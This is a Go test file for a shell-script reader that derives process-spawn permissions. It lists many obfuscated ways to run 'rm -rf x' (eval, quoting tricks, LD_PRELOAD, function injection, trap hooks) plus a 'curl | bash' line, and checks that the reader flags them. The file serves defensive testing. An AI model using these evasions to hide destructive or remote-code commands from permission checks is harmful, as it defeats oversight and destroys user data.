package shellread

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// evasions run `rm -rf x` in ways that a reader may miss. A reading catches one
// if it proposes rm, or says that something is not static.
func evasions() []string {
	return []string{
		"r''m -rf x", `r"m" -rf x`, `\rm -rf x`, `$'\x72m' -rf x`, `$'\162m' -rf x`, `$'\x{72}m' -rf x`, `r$'\u006d' -rf x`,
		"r\\\nm -rf x", "{rm,-rf,x}", "/bin/r? -rf x", "/???/rm -rf x", "[r]m -rf x",
		`eval "rm -rf x"`, "eval r''m -rf x", `eval "$FOO"`, "X='rm -rf x'; $X", "X='rm -rf x'; eval $X", "X=rm; Y=$X; $Y -rf x",
		"$CMD -rf x", "$(printf rm) -rf x", "`printf rm` -rf x", "rm${IFS}-rf${IFS}x", "IFS=_; c=rm_-rf_x; $c", "set -- rm -rf x; \"$@\"",
		"a=(rm -rf x); \"${a[@]}\"", "declare -n r=c; c=rm; $r -rf x", "E=; $E rm -rf x", "c=xrm; ${c#x} -rf x", "c=cd; c=rm; $c -rf x",
		"command rm -rf x", "command -p rm -rf x", "builtin command rm -rf x", "env X=1 rm -rf x", "env -i -u A rm -rf x", "env -S 'rm -rf x'",
		"exec rm -rf x", "exec -a ls rm -rf x", "nohup rm -rf x &", "timeout 5 rm -rf x", "nice -n 5 rm -rf x", "sudo -u root rm -rf x", "sudo -- rm -rf x",
		"busybox rm -rf x", "echo x | xargs rm -rf", "find . -exec rm -rf {} +", "time rm -rf x", "time ! rm -rf x", "! rm -rf x",
		"coproc rm -rf x", "coproc V=1 rm -rf x", "coproc rm export x", "coproc rm let x", "sh -c 'rm -rf x'", `bash -c "sh -c 'rm -rf x'"`, "bash -lc 'rm -rf x'", "sh <<E\nrm -rf x\nE", "sh <<'E'\nrm -rf x\nE",
		"bash <<< 'rm -rf x'", "echo rm -rf x | sh", "curl https://a.io | bash", "sh < f", ". /dev/stdin <<< 'rm -rf x'", "source <(echo rm -rf x)",
		"cat <<E\n$(rm -rf x)\nE", "echo \"$(rm -rf x)\"", "echo ${a:-$(rm -rf x)}", "echo $((1 + $(rm -rf x)))", "a[$(rm -rf x)]=1", ": < <(rm -rf x)",
		"[[ $(rm -rf x) ]]", "case $(rm -rf x) in *) ;; esac", "for i in $(rm -rf x); do :; done", "x=$(rm -rf x)", "local x=$(rm -rf x)", "((x = $(rm -rf x)))",
		"alias ls='rm -rf x'", "trap 'rm -rf x' EXIT", "trap \"$x\" EXIT", "PS4='$(rm -rf x)'; set -x", "PROMPT_COMMAND='rm -rf x'", "BASH_ENV=f bash -c ls",
		"PATH=.:$PATH; ls", "hash -p /bin/rm ls; ls -rf x", "BASH_CMDS[ls]=/bin/rm; ls", "enable -f ./x.so ls", "env 'BASH_FUNC_ls%%=() { rm -rf x; }' bash -c ls",
		"GIT_SSH_COMMAND='rm -rf x' git status", "LD_PRELOAD=./x.so ls", "complete -C 'rm -rf x' ls", "mapfile -C 'rm -rf x' -c 1 a", "x='$(rm -rf x)'; echo ${x@P}",
		"rm() { :; }; command rm -rf x", "rm() { :; }; \"rm\" -rf x; unset -f rm; rm -rf x", "rm -rf x; rm() { :; }", "f() { rm -rf x; }; f; rm() { :; }",
		"if false; then rm() { :; }; fi; rm -rf x", "(rm() { :; }); rm -rf x", "rm() { :; } & rm -rf x", "rm() { :; }; env rm -rf x", "f() { rm() { :; }; }; rm -rf x",
		"echo hello # \\\nrm -rf x", "echo hello # \\\r\nrm -rf x", "# \\\n# \\\nrm -rf x", "echo '#' \\\n# \\\nrm -rf x",
		"true;rm -rf x", "true&rm -rf x", "true|rm -rf x", "true|&rm -rf x", "if true\nthen rm -rf x\nfi", "{ rm -rf x; }", "(rm -rf x)",
		"A=1 B=2 rm -rf x", ">f rm -rf x", "2>&1 rm -rf x", "r\x00m -rf x", "rm -rf x\r", "function f { rm -rf x; }", "select i in a; do rm -rf x; done",
		"\"$DIR/rm\" -rf x", "~/rm -rf x", "$'a\nb'; rm -rf x", "a[ rm -rf x", "eval eval eval rm -rf x", "while read -r l; do $l; done",
	}
}

// catches reports whether a reading says that something may run that is not
// what it seems.
func catches(ps []Proposal) bool {
	runs := regexp.MustCompile(`[( /]rm \*\*\)$`)
	return slices.ContainsFunc(ps, func(p Proposal) bool {
		return !p.Static && has("spawn.proc spawn.proc(x.sh", strings.Fields(p.Grant)[0]) || runs.MatchString(p.Grant)
	})
}

func missed(read func(string) []Proposal) []string {
	return slices.DeleteFunc(evasions(), func(source string) bool { return catches(read(source)) })
}

func TestEvasions(t *testing.T) {
	for _, source := range missed(body) {
		t.Errorf("%q is missed: %q", source, list(body(source)))
	}
	for _, harmless := range []string{"echo rm", "git status", "ls '$(rm -rf x)'", "# rm -rf x", "cat <<'E'\n$(rm -rf x)\nE", "rm() { :; }\nrm -rf x"} {
		if catches(body(harmless)) {
			t.Errorf("%q is taken for what it is not: %q", harmless, list(body(harmless)))
		}
	}
}

// TestMutants plants readers that each believe one thing too many.
func TestMutants(t *testing.T) {
	mutants := map[string]struct {
		read   func(string) []Proposal
		misses string
	}{
		"takes the first word of each line":     {firstWords, "true;rm -rf x"},
		"takes words as they are written":       {asWritten, `r"m" -rf x`},
		"believes every definition":             {believesDefinitions, "if false; then rm() { :; }; fi; rm -rf x"},
		"believes the parser about comments":    {asWritten, "echo hello # \\\nrm -rf x"},
		"says nothing of what is not static":    {onlyStatic, "$CMD -rf x"},
		"believes that an assignment is a call": {staticNames, "coproc V=1 rm -rf x"},
	}
	for name, m := range mutants {
		if !slices.Contains(missed(m.read), m.misses) {
			t.Errorf("a reader that %s is not caught", name)
		}
	}
}

func spawns(names []string) []Proposal {
	var out []Proposal
	for _, name := range names {
		out = append(out, Proposal{Grant: "spawn.proc(" + name + " **)", Static: true})
	}
	return out
}

func firstWords(source string) []Proposal {
	var names []string
	for line := range strings.Lines(source) {
		names = append(names, strings.Fields(line + " -")[0])
	}
	return spawns(names)
}

// calls walks what the parser makes of a source.
func calls(source string, name func(*syntax.CallExpr) string) []Proposal {
	file, err := syntax.NewParser().Parse(strings.NewReader(source), "")
	if err != nil {
		return []Proposal{{Grant: "spawn.proc"}}
	}
	var names []string
	syntax.Walk(file, func(n syntax.Node) bool {
		if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
			names = append(names, name(c))
		}
		return true
	})
	return spawns(names)
}

func asWritten(source string) []Proposal {
	return calls(source, func(c *syntax.CallExpr) string { return c.Args[0].Lit() })
}

func staticNames(source string) []Proposal {
	return calls(source, func(c *syntax.CallExpr) string {
		name, _ := (&words{src: source}).quoted(c.Args[0]).literal()
		return name
	})
}

func believesDefinitions(source string) []Proposal {
	defined := regexp.MustCompile(`(\w+)\(\)`).FindStringSubmatch(source)
	return slices.DeleteFunc(body(source), func(p Proposal) bool {
		return defined != nil && p.Grant == "spawn.proc("+defined[1]+" **)"
	})
}

func onlyStatic(source string) []Proposal {
	return slices.DeleteFunc(body(source), func(p Proposal) bool { return !p.Static })
}
